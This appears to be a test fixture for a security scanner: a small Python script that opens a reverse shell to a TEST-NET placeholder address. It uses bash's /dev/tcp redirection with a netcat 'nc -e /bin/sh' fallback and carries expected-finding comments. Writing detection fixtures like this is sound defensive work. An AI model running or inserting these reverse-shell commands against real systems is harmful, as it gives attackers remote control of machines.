# Shell one-liners started from Python: bash's /dev/tcp redirection, with a
# netcat fallback. Defanged: TEST-NET address.
import os
import shutil
import subprocess

LHOST, LPORT = "192.0.2.44", 9001


def connect_back():
    if shutil.which("bash"):
        subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/{LHOST}/{LPORT} 0>&1"])  # expect: HS108 critical, HS118 high
    else:
        os.system(f"nc -e /bin/sh {LHOST} {LPORT} &")  # expect: HS108 critical


connect_back()
